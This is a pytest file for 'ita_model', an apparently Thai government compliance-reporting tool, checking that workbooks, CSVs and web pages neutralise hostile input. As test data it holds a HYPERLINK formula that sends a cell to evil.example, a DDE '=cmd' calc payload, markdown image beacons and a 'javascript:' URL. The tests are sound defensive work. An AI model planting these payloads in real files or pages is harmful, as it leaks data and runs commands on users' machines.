"""What we write never runs and never breaks: control characters and formula-looking cells in the
annotated workbook and the CSVs, a 200-character extension, output piped into ``head``, a store
database that vanished under its files. All through ``python -m ita_model``."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from functools import partial
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ita_model.cells import csv_bytes, frame_csv, put_text, visible
from tests.conftest import ROOT, SAMPLE, run_cli

run = partial(run_cli, timeout=120)
URL = "https://www.pao-phayao.go.th/ita/o39"
EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _submit(store: Path, path: Path, *extra: str) -> tuple[int, dict]:
    proc = run("submit", path, "--store", store, "--json", "--user", "nit", *extra)
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    (sub,) = json.loads(proc.stdout)["submissions"]
    return proc.returncode, sub


def _annotated(store: Path, sub_id: str, out: Path) -> openpyxl.Workbook:
    proc = run("annotate", sub_id, "--store", store, "--out", out)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    return openpyxl.load_workbook(out)


# --------------------------------------------------------------------------- 4. control characters


def test_annotate_a_csv_with_a_control_character(tmp_path: Path):
    src = tmp_path / "ฝ่ายนิติการ.csv"
    src.write_text(f"ข้อ,สถานะ,ลิงก์\no39,เสร็จ\x07แล้วนะ,{URL}\n", encoding="utf-8")
    code, sub = _submit(tmp_path / "store", src)
    assert code == 1 and sub["errors"] >= 1  # the status is not a word we know
    wb = _annotated(tmp_path / "store", sub["id"], tmp_path / "out.xlsx")
    data = wb[wb.sheetnames[1]]
    cell = data["B2"]
    assert cell.value == "เสร็จ␇แล้วนะ"  # the bell shown as its control picture, not lost
    assert cell.fill.fgColor.rgb.endswith("FFC7CE")  # still marked as an error
    assert "␇" in cell.comment.text and "\x07" not in cell.comment.text
    problems = wb[wb.sheetnames[0]]
    codes = [r[6] for r in problems.iter_rows(min_row=5, values_only=True)]
    assert "unknown_status" in codes


# --------------------------------------------------------------------------- 5. long extension


def test_submit_a_file_with_a_200_character_extension_keeps_it(tmp_path: Path):
    name = "ฝ่ายนิติการ." + "x" * 200
    src = tmp_path / name
    src.write_bytes((SAMPLE / "oit_legal.xlsx").read_bytes())
    store = tmp_path / "store"
    code, sub = _submit(store, src)
    assert code == 0 and sub["state"] == "accepted"  # a workbook, whatever its name says
    assert sub["new"] is True and sub["filename"] == name  # the original name in the record
    (kept,) = (store / "files").iterdir()
    assert kept.name == f"{sub['sha256']}.{'x' * 15}"  # a bounded extension on disk
    assert kept.read_bytes() == src.read_bytes()
    hist = json.loads(run("history", "--store", store, "--json").stdout)["submissions"]
    assert [s["filename"] for s in hist] == [name]


# --------------------------------------------------------------------------- 6. a closed pipe


@pytest.mark.parametrize(
    "args",
    [["summary"], ["validate", *sorted(map(str, SAMPLE.glob("*.xlsx")))], ["framework"]],
    ids=["summary", "validate", "framework"],
)
def test_output_into_a_closed_pipe_is_no_traceback_and_no_errors_code(args):
    """``… | head``: the reader is gone before we write; 141 (a closed pipe), never 1."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "ita_model", *args],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert proc.stdout is not None
    proc.stdout.close()  # what `head` does once it has its lines
    _, err = proc.communicate(timeout=120)
    assert "Traceback" not in err and "BrokenPipeError" not in err, err
    assert proc.returncode == 141


def test_validate_into_a_pipe_read_to_the_end_keeps_the_exit_code_of_the_files(tmp_path: Path):
    """A reader that takes every line: the exit code still says what the files are (0, 1)."""
    bad = tmp_path / "ฝ่ายนิติการ.csv"
    bad.write_text("ข้อ,สถานะ\no39,เสร็จไม่เสร็จ\n", encoding="utf-8")
    for path, code in ((SAMPLE / "measures.xlsx", 0), (bad, 1)):
        script = f"{sys.executable} -m ita_model validate '{path}' | head -n 1000"
        proc = subprocess.run(
            ["bash", "-o", "pipefail", "-c", script], cwd=ROOT, capture_output=True, text=True
        )
        assert proc.returncode == code and path.name in proc.stdout, proc.stderr


# --------------------------------------------------------------------------- 11. formulas


def _no_formulas(wb: openpyxl.Workbook) -> None:
    live = [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert live == []


def test_annotated_csv_keeps_formula_cells_and_headers_as_text(tmp_path: Path):
    src = tmp_path / "ฝ่ายนิติการ.csv"
    body = io.StringIO()
    w = csv.writer(body)
    w.writerow(["ข้อ", "สถานะ", "ลิงก์", EVIL])
    w.writerow(["o39", "เสร็จสิ้น", URL, EVIL])
    w.writerow(["o40", "=1+1", URL, "@SUM(A1)"])
    src.write_text(body.getvalue(), encoding="utf-8")
    code, sub = _submit(tmp_path / "store", src)
    assert code == 1  # "=1+1" is no status
    wb = _annotated(tmp_path / "store", sub["id"], tmp_path / "out.xlsx")
    _no_formulas(wb)
    data = wb[wb.sheetnames[1]]
    assert data["D1"].value == EVIL and data["D2"].value == EVIL  # shown as typed
    assert data["B3"].value == "=1+1" and data["B3"].quotePrefix
    problems = wb[wb.sheetnames[0]]
    rows = problems.iter_rows(min_row=5, values_only=True)
    unknown = [r for r in rows if r[6] == "unknown_column"]
    assert unknown and unknown[0][5] == EVIL  # the header, as text, on the problems sheet


def test_audit_csv_writes_formula_looking_names_as_text(tmp_path: Path):
    store = tmp_path / "store"
    src = tmp_path / "=HYPERLINK(1)+ฝ่ายนิติการ.xlsx"
    src.write_bytes((SAMPLE / "oit_legal.xlsx").read_bytes())
    _submit(store, src, "--user", "@SUM(1+1)", "--division", "ฝ่ายนิติการ")
    proc = run("audit", "--store", store, "--csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout.lstrip("\ufeff"))))
    fields = [f for r in rows for f in r]
    assert "'@SUM(1+1)" in fields
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]


def test_changes_since_csv_and_every_csv_helper_prefix_formulas():
    """The History page's "changes since" CSV is ``frame_csv`` of its table."""
    frame = pd.DataFrame(
        {
            "item": ["o01", "o02"],
            "user": ["=cmd|' /C calc'!A0", "นิติ"],
            "filename": ["+x.xlsx", "-y.csv"],
            "count": [-1, 2],
            "note": ["\tTab", None],
        }
    )
    rows = list(csv.reader(io.StringIO(frame_csv(frame).decode("utf-8-sig"))))
    assert rows[1] == ["o01", "'=cmd|' /C calc'!A0", "'+x.xlsx", "-1", "'\tTab"]
    assert rows[2] == ["o02", "นิติ", "'-y.csv", "2", ""]  # a number stays a number
    raw = csv_bytes(["@h"], [["=a"], [3]]).decode("utf-8-sig").splitlines()
    assert raw == ["'@h", "'=a", "3"]


def test_put_text_never_writes_a_formula_or_an_illegal_character():
    ws = openpyxl.Workbook().active
    for n, value in enumerate([EVIL, "+1", "a\x00b\x1fc", 12.5, None], start=1):
        put_text(ws.cell(n, 1), value)
    out = io.BytesIO()
    ws.parent.save(out)
    back = openpyxl.load_workbook(out).active
    assert [back.cell(n, 1).value for n in range(1, 6)] == [EVIL, "+1", "a␀b␟c", 12.5, None]
    assert back["A1"].data_type == "s" and back["A1"].quotePrefix
    assert visible("ok\tline\nnext") == "ok\tline\nnext"  # tab and new line are fine in xlsx


# --------------------------------------------------------------------------- 12. a lost database


@pytest.fixture
def lost_store(tmp_path: Path) -> Path:
    """A store with two submissions whose database was then truncated to 0 bytes."""
    store = tmp_path / "store"
    for name in ("oit_legal.xlsx", "oit_it.xlsx"):
        code, _ = _submit(store, SAMPLE / name)
        assert code == 0
    for extra in store.glob("store.sqlite3-*"):  # the WAL, if a checkpoint left one
        extra.unlink()
    (store / "store.sqlite3").write_bytes(b"")
    return store


def _untouched(store: Path) -> None:
    assert (store / "store.sqlite3").stat().st_size == 0
    assert len(list((store / "files").iterdir())) == 2


def test_cli_refuses_a_store_whose_database_was_truncated(lost_store: Path):
    for args in (["history"], ["audit"], ["submit", SAMPLE / "oit_finance.xlsx", "--user", "n"]):
        proc = run(*args, "--store", lost_store)
        assert proc.returncode == 2, (args, proc.stdout)
        assert "Traceback" not in proc.stdout + proc.stderr
        assert "store_lost" in proc.stderr and "0 ไบต์" in proc.stderr and "0 bytes" in proc.stderr
        assert "ยังมีไฟล์ที่ส่งมา 2 ไฟล์" in proc.stderr and "holds 2 submitted files" in proc.stderr
    _untouched(lost_store)


def test_a_missing_database_beside_kept_files_is_refused_and_verify_lists_them(lost_store):
    from ita_model.store import open_store

    (lost_store / "store.sqlite3").unlink()
    proc = run("history", "--store", lost_store)
    assert proc.returncode == 2 and "store_lost" in proc.stderr and "is missing" in proc.stderr
    assert not (lost_store / "store.sqlite3").exists()  # not created afresh
    store = open_store(lost_store)
    assert store.verify()[0].startswith("store_lost:")
    orphans = sorted(i.message_en.split(":")[0] for i in store.problems()[1:])
    assert orphans == sorted(str(f) for f in (lost_store / "files").iterdir())


def test_the_dashboard_says_so_and_writes_nothing(lost_store, monkeypatch):
    from tests.conftest import app_test

    monkeypatch.setenv("ITA_STORE_DIR", str(lost_store))
    for page in ("dashboard.py", "app_pages/data_in.py", "app_pages/history.py"):
        at = app_test(ROOT / page).run()
        assert not at.exception, [e.value for e in at.exception]
        shown = " ".join(e.value for e in at.error)
        assert "store_lost" in shown and "0 ไบต์" in shown and "0 bytes" in shown, page
    _untouched(lost_store)


# --------------------------------------------------------------------------- 9, 10. names as text


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("![](http://evil.example/x.png)", "!\\[\\](http\\:\u2060//evil.example/x.png)"),
        ("[text](https://phishing.example)", "\\[text\\](https\\:\u2060//phishing.example)"),
        ("<img src=x> :red[y] $z$ &lt;", "\\<img src=x\\> \\:red\\[y\\] \\$z\\$ \\&lt;"),
        ("www.evil.example nit@pao.go.th", "www\u2060\\.evil.example nit\\@\u2060pao.go.th"),
        ("# 1. - > oit_legal.xlsx _x_", "\\# 1. - \\> oit_legal.xlsx \\_x\\_"),
        ("1. first\nsecond", "1\\. first second"),
        ("ส่วนราชการ: กองคลัง (o01)", "ส่วนราชการ: กองคลัง (o01)"),
    ],
)
def test_md_leaves_nothing_markdown_can_use(text: str, escaped: str):
    from app_pages._text import md

    assert md(text) == escaped


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://www.pao-phayao.go.th/laws?a=1#b", True),
        ("https://www.pao-phayao.go.th/ข่าว", True),
        ("https://ok.example/>![b](http://evil.example/x.png)", False),
        ("https://ok.example/![b](x.png)", False),
        ("javascript:alert(1)", False),
        ("https://a b.example", False),
        ("ftp://files.example/x", False),
        ("http://", False),
    ],
)
def test_only_a_plain_http_url_is_a_link(url: str, ok: bool):
    from app_pages._text import link

    assert link(url) == (url if ok else None)


def test_no_page_hands_unsafe_html_text_it_did_not_write():
    """``unsafe_allow_html`` is used nowhere; ``st.html`` only on the meeting page, whose every
    piece of text goes through ``html.escape`` (checked by its own tests and the browser test),
    in ``_words.py``'s uploader CSS, built from our own words as CSS string literals, and in
    ``_tables.html_chart``, which draws what ``ita_model.html_charts`` escaped (its tests)."""
    pages = {p.name: p.read_text(encoding="utf-8") for p in (ROOT / "app_pages").glob("*.py")}
    assert [n for n, s in pages.items() if "unsafe_allow_html" in s] == []
    assert sorted(n for n, s in pages.items() if "st.html(" in s) == [
        "_tables.py",
        "_words.py",
        "meeting.py",
    ]


def test_framework_import_keeps_names_as_text_and_the_oit_page_shows_them(tmp_path, monkeypatch):
    from ita_model.framework import load_framework, load_framework_file
    from ita_model.framework_import import SHEET_NAMES, framework_workbook_bytes
    from tests.conftest import app_test

    html = "<img src=http://evil.example/y.png>"
    wb = openpyxl.load_workbook(io.BytesIO(framework_workbook_bytes(load_framework(2565))))
    wb[SHEET_NAMES["subindicators"]]["B2"] = html
    put_text(wb[SHEET_NAMES["items"]]["B2"], EVIL)  # typed as text by a clerk
    src = tmp_path / "framework.xlsx"
    wb.save(src)
    out = tmp_path / "2565.yaml"
    proc = run("framework-import", src, "--year", "2565", "--out", out)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    fw = load_framework_file(out)
    sub = fw.oit_indicators()[0].subindicators[0]
    assert sub.name_th == html and fw.items()[0].name_th == EVIL  # kept verbatim, as text
    back = openpyxl.load_workbook(io.BytesIO(framework_workbook_bytes(fw)))
    _no_formulas(back)  # framework-export writes it back as text

    import app_pages._data as data

    monkeypatch.setattr(data, "load_framework", lambda year: fw)
    data._load.clear()
    at = app_test(ROOT / "app_pages" / "oit.py").run()
    assert not at.exception, [e.value for e in at.exception]
    from lxml import html as lxml_html

    # the list is HTML made by ita_model.oit_html: the names show as the text they are
    [block] = [h.value for h in at.get("html") if "ita-oit-list" in h.value]
    doc = lxml_html.fromstring(f"<div>{block}</div>")
    headings = [h.text_content() for h in doc.xpath("//h4")]
    assert any(h.startswith("9") and html in h for h in headings)
    assert not doc.xpath("//img | //script") and not doc.xpath("//a[not(@href)]")
    assert any(EVIL in s.text_content() for s in doc.xpath("//summary"))
    assert not any(m.allow_html for m in at.markdown)
    data._load.clear()
